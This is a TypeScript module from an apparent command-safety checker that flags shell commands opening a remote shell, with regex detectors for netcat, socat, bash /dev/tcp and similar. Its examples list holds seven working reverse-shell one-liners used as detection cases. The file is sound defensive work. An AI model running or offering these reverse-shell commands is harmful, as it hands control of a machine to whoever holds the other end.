import type { Invocation } from '../../shell/invocation.ts';
import type { Draft, Rule, Tool } from '../rule.ts';

const remoteShellRule: Rule = {
  id: 'network.remoteShell',
  effect: 'escalate',
  resource: 'machine',
  title: 'Give another machine a shell on this one: {name}',
  location: 'local',
  recovery: 'none',
  source: 'https://nmap.org/ncat/guide/ncat-exec.html',
  takes: 'Whoever holds the other end can run anything here.',
  examples: [
    'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
    '0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196',
    'nc -e /bin/sh 10.0.0.1 4242',
    'ncat -lk 9001 --sh-exec "bash -i"',
    'socat TCP:10.0.0.1:4242 EXEC:/bin/sh',
    'rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f',
    'telnet 10.0.0.1 4242 | /bin/sh | telnet 10.0.0.1 4243',
  ],
  nearMisses: [
    'nc -zv localhost 5432',
    'timeout 1 bash -c "</dev/tcp/localhost/5432"',
    'nc -l 8080',
    'socat TCP-LISTEN:8080,fork TCP:localhost:80',
    'echo ruok | nc localhost 2181',
    'openssl s_client -connect example.com:443 < /dev/null | openssl x509 -noout',
  ],
};

const shells = ['sh', 'bash', 'zsh', 'dash', 'ksh', 'ash', 'fish', 'csh', 'tcsh'];
const shellNames = new Set(shells);
const dialers = ['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd', 'socat', 'telnet', 'openssl'];
const dialerNames = new Set(dialers);

export function remoteShellDraft(invocation: Invocation, name = invocation.text): Draft {
  return {
    rule: remoteShellRule,
    resource: { kind: 'machine', name: name.slice(0, 60) || invocation.program },
    target: { environment: 'local' },
    evidence: [{ text: invocation.text.slice(0, 200) }],
  };
}

/** https://nmap.org/ncat/guide/ncat-exec.html, http://www.dest-unreach.org/socat/doc/socat.html#ADDRESS_TYPES */
function hands(invocation: Invocation): boolean {
  const { program, input } = invocation;
  const words = invocation.argv.slice(1).map((word) => word.text);
  if (shellNames.has(program)) {
    const { text } = invocation;
    if (/[<>]&?\s*\/dev\/(?:tcp|udp)\//.test(text)) return true;
    if (/<&\s*\d{1,3}\b/.test(text) && /\d?>&\s*(?:[3-9]|\d{2,3})\b/.test(text)) return true;
    return input.type === 'pipe' && input.from.some((from) => dialerNames.has(from.program) && dials(from));
  }
  if (program === 'socat') return words.some((word) => /^(?:exec|system|shell):/i.test(word));
  if (program === 'awk' || program === 'gawk') return words.some((word) => /\/inet\d?\/(?:tcp|udp)\//.test(word) && word.includes('|&'));
  if (/^n(?:c|cat|etcat)/.test(program)) {
    const runs = words.some(
      (word, index) =>
        /^--(?:sh-|lua-)?exec(?:=|$)/.test(word) ||
        (/^-[a-z]*e$/.test(word) && index + 1 < words.length) ||
        (/^-[a-z]*c$/.test(word) && /^(?:\/\S*\/)?(?:ba|da|z|k)?sh\b/.test(words[index + 1] ?? '')),
    );
    if (runs) return true;
  }
  return dials(invocation) && input.type === 'pipe' && input.from.some((from) => shellNames.has(from.program) && isInteractive(from));
}

/** Connects, instead of only looking or encoding something. */
function dials({ program, argv }: Invocation): boolean {
  if (program !== 'openssl') return !argv.some((word) => /^-\w*z/.test(word.text));
  return argv[1]?.text === 's_client';
}

/** Reads commands from what it is connected to, instead of running a text of its own. */
function isInteractive({ argv }: Invocation): boolean {
  return argv.length === 1 || argv.some((word) => /^-[a-z]*[is]$/.test(word.text));
}

const remoteShellTool: Tool = {
  names: [...shells, ...dialers, 'awk', 'gawk'],
  family: 'network',
  rules: [remoteShellRule],
  find: (invocation) => (hands(invocation) ? [remoteShellDraft(invocation)] : []),
};

/** Program text that connects a socket with a shell. */
export function connectsShell(text: string): boolean {
  if (!/socket|fsockopen|TCPSocket|net\.(?:connect|createConnection|Socket)|['"]net['"]|TCPClient/.test(text)) return false;
  if (!/\/bin\/(?:ba|da|z|k)?sh\b|['"`](?:ba|z)?sh['"`]|cmd\.exe|pty\.spawn|powershell/.test(text)) return false;
  return /dup2|\.pipe\(|pty\.spawn|<&\d|>&\s?S|<&%d|STDIN|getStream\(|communicate\(|check_output\(|os\.execute|fsockopen/.test(text);
}

export const remoteShellTools: readonly Tool[] = [remoteShellTool];
